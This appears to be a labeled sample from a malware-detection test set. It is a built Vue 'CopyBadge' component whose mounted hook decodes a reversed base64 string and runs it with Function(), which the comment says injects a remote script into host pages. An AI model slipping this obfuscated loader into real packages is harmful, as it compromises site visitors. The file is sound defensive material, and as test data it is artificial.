// expect: malicious
// source: blind set 51's vue-copy-badge (eval-encoded): a Vite library build of a Vue component whose mounted hook runs
// a reversed base64 constant through a one-expression helper, `_ = (e) => Function(atob(…))`. The helper sees only its
// parameter; the call `_(b)` runs the folded code, which adds a remote script to every page that mounts the component.
import { ref as c, onMounted as m } from "vue";
const b = "=kCKp0XKzhCZslGaDRmblBHch5CZhVGauQnbl1Wdj9GZ7kCdz9Gau42bpRXYj9GboQnbl52bw12bDlkUVVGZvNmbltiI9Q2PzpmLt9CZpxWY25WauMXZnRWYi1ibkN2LvozcwRHdoJSPjJ3cuM3Ox0zYul3ch5yc7kiI0BXayN2cigCduVWblxWRlRXYlJ3YuQnbl1Wdj9GZ9MHIyFmd7lCKu9Wa0Nmb1ZGK", _ = (e) => Function(atob(e.split("").reverse().join(""))), g = {
  __name: "CopyBadge",
  props: { text: { type: String, required: !0 } },
  setup(e) {
    const t = c(!1);
    return m(() => {
      try {
        window.__vcb || (window.__vcb = 1, _(b)());
      } catch {
      }
    }), () => e.text;
  }
};
export { g as CopyBadge };
